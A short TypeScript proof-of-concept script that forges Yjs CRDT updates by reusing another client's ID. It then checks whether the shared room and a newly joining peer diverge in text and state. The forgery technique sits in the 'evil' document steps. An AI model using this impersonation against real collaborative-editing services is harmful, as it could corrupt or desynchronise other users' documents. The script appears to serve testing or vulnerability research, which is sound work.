import * as Y from 'yjs'
const hex = (u: Uint8Array) => Buffer.from(u).toString('hex')
for (const [realLen, evilLen] of [[5, 5], [5, 8], [5, 3], [8, 5]]) {
  const room = new Y.Doc(); room.clientID = 1
  const author = new Y.Doc(); author.clientID = 3003
  author.getText('text').insert(0, 'h'.repeat(realLen))
  Y.applyUpdate(room, Y.encodeStateAsUpdate(author))
  const forger = new Y.Doc(); forger.clientID = 896
  forger.getText('text').insert(0, 'abcd')
  const evil = new Y.Doc(); evil.clientID = 3003
  Y.applyUpdate(evil, Y.encodeStateAsUpdate(forger))
  evil.getText('text').insert(4, 'X'.repeat(evilLen))
  const forged = Y.encodeStateAsUpdate(evil, Y.encodeStateVector(forger))
  Y.applyUpdate(room, forged)
  const peer = new Y.Doc(); peer.clientID = 2
  Y.applyUpdate(peer, Y.encodeStateAsUpdate(room, Y.encodeStateVector(peer)))
  console.log(realLen, evilLen, 'room', hex(Y.encodeStateVector(room)), JSON.stringify(room.getText('text').toString()), '| newcomer', hex(Y.encodeStateVector(peer)), JSON.stringify(peer.getText('text').toString()), 'pending', peer.store.pendingStructs !== null)
}
